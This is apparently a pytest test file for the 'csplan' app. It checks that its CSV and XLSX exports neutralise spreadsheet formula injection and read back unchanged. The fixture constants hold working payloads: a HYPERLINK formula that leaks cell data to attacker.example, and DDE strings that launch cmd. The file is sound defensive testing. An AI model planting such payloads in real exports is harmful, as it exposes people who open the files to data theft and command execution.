"""Text that a spreadsheet would run as a formula is neutralised in every CSV and XLSX export.

A line is imported (through the store, from a JSON file) with a title, description, SRO and
service activity that begin with = + - @; the command line exports and the web twins must write
each with a leading apostrophe, so Excel shows the text instead of running it, and csplan must
read its own export back unchanged.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from badinput_corpus import good_json_data
from click.testing import CliRunner
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from csplan.accounts.users import with_role
from csplan.cli import cli
from csplan.programme.io.importing import import_programme_file
from csplan.programme.models import SavingsLine

TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the figures")'
DESCRIPTION = "+cmd|' /C calc'!A0"
SRO = "@SUM(1+1)*cmd|' /C calc'!A0"
ACTIVITY = "-2+3+cmd|' /C calc'!A0"
HOSTILE = (TITLE, DESCRIPTION, SRO, ACTIVITY)


@pytest.fixture
def hostile_plan(db, tmp_path):
    data = good_json_data()
    line = data["lines"][0]
    line.update(title=TITLE, description=DESCRIPTION, sro_role=SRO, service_activity=ACTIVITY)
    path = tmp_path / "hostile.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    import_programme_file(path)
    stored = SavingsLine.objects.get(reference=line["reference"])
    assert (stored.title, stored.description, stored.sro_role) == (TITLE, DESCRIPTION, SRO)
    return stored


def _csv_cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def _assert_csv_neutralised(text: str, expected: tuple[str, ...]) -> None:
    cells = _csv_cells(text)
    for value in expected:
        assert "'" + value in cells, value
        assert value not in cells, value


def _assert_xlsx_neutralised(data: bytes, expected: tuple[str, ...]) -> None:
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    values = {c.value for c in cells if isinstance(c.value, str)}
    for value in expected:
        assert "'" + value in values, value
        assert value not in values, value


def test_csplan_export_csv_neutralises_formulas(hostile_plan, tmp_path):
    out = tmp_path / "appendix.csv"
    result = CliRunner().invoke(cli, ["export", str(out)])
    assert result.exit_code == 0, result.output
    _assert_csv_neutralised(out.read_text(encoding="utf-8"), (DESCRIPTION, ACTIVITY))


def test_csplan_export_xlsx_neutralises_formulas_and_reads_back_unchanged(hostile_plan, tmp_path):
    out = tmp_path / "programme.xlsx"
    result = CliRunner().invoke(cli, ["export", str(out)])
    assert result.exit_code == 0, result.output
    _assert_xlsx_neutralised(out.read_bytes(), HOSTILE)
    summary = import_programme_file(Path(out))
    assert not summary.changed  # the apostrophes are removed again on import
    hostile_plan.refresh_from_db()
    assert (hostile_plan.title, hostile_plan.service_activity) == (TITLE, ACTIVITY)


def test_csplan_table_csv_neutralises_formulas(hostile_plan):
    result = CliRunner().invoke(cli, ["table", "proposals", "--format", "csv"])
    assert result.exit_code == 0, result.output
    _assert_csv_neutralised(result.output, (DESCRIPTION, ACTIVITY))


@pytest.fixture
def signed_in(client, hostile_plan):
    user = with_role(
        get_user_model().objects.create_superuser("export-officer", password=None), "admin"
    )
    client.force_login(user)
    return client


def test_lines_csv_twin_neutralises_formulas(signed_in):
    response = signed_in.get("/lines/?format=csv")
    assert response.status_code == 200
    _assert_csv_neutralised(response.content.decode("utf-8-sig"), (TITLE, SRO))


def test_lines_xlsx_twin_neutralises_formulas(signed_in):
    response = signed_in.get("/lines/?format=xlsx")
    assert response.status_code == 200
    _assert_xlsx_neutralised(response.content, (TITLE, SRO))


def test_proposals_twins_neutralise_formulas(signed_in):
    _assert_csv_neutralised(
        signed_in.get("/proposals/?format=csv").content.decode("utf-8-sig"),
        (DESCRIPTION, ACTIVITY),
    )
    _assert_xlsx_neutralised(
        signed_in.get("/proposals/?format=xlsx").content, (DESCRIPTION, ACTIVITY)
    )


def test_the_json_twin_keeps_the_text_exactly(signed_in):
    """JSON is not opened by spreadsheets: the text is kept as typed."""
    data = json.loads(signed_in.get("/lines/?format=json").content)
    cells = [value for row in data["rows"] for value in row["cells"]]
    assert TITLE in cells and SRO in cells
